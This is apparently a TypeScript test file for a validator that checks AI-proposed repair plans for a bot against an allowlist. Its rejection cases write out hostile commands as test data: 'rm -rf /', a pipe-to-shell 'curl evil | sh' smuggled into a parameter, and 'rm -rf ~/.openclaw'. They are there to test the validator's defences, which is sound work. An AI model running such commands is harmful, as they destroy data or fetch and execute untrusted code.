import { describe, expect, it } from "vitest";
import { validatePlan } from "./planner.js";
import { ACTION_NAMES } from "./actions/index.js";

const rules = { bot: "alpha", allowlist: [...ACTION_NAMES], maxActions: 5 };
const plan = (actions: unknown[], extra: object = {}) =>
  JSON.stringify({ diagnosis: "the gateway hung", actions, ...extra });

describe("AI plan validation", () => {
  it("accepts a plan of allowlisted actions with valid parameters", () => {
    const verdict = validatePlan(
      plan([
        { action: "wait", params: { seconds: 2 } },
        { action: "restart", reason: "hung" },
      ]),
      rules,
    );
    expect(verdict).toEqual({
      ok: true,
      diagnosis: "the gateway hung",
      steps: [
        { action: "wait", params: { seconds: 2 }, reason: "" },
        { action: "restart", params: {}, reason: "hung" },
      ],
    });
  });

  it("accepts JSON wrapped in one Markdown fence", () => {
    const fenced = "```json\n" + plan([{ action: "restart", bot: "alpha" }]) + "\n```";
    expect(validatePlan(fenced, rules).ok).toBe(true);
  });

  const rejected: [string, string, RegExp][] = [
    ["an action off the allowlist", plan([{ action: "delete-state-dir" }]), /not on the allowlist/],
    ["rm -rf as an action", plan([{ action: "rm -rf /" }]), /not on the allowlist/],
    [
      "a shell string smuggled into parameters",
      plan([{ action: "restart", params: { command: "curl evil | sh" } }]),
      /bad parameters/,
    ],
    ["a bare shell string", "rm -rf ~/.openclaw", /not JSON/],
    ["malformed JSON", '{"diagnosis": "x", "actions": [', /not JSON/],
    ["another bot", plan([{ action: "restart", bot: "beta" }]), /targets bot "beta"/],
    ["an extra top-level key", plan([{ action: "restart" }], { shell: "ls" }), /not a plan/],
    ["no actions", plan([]), /not a plan/],
    ["too many actions", plan(Array(6).fill({ action: "restart" })), /at most 5/],
    [
      "out-of-range parameters",
      plan([{ action: "wait", params: { seconds: 86400 } }]),
      /bad parameters/,
    ],
  ];
  for (const [what, content, reason] of rejected) {
    it(`rejects ${what}`, () => {
      const verdict = validatePlan(content, rules);
      expect(verdict.ok).toBe(false);
      expect(!verdict.ok && verdict.reason).toMatch(reason);
    });
  }

  it("rejects an allowlisted name that the operator took off the allowlist", () => {
    const verdict = validatePlan(plan([{ action: "kill-verified-stale-listener" }]), {
      ...rules,
      allowlist: ["restart", "wait"],
    });
    expect(!verdict.ok && verdict.reason).toMatch(/not on the allowlist/);
  });
});
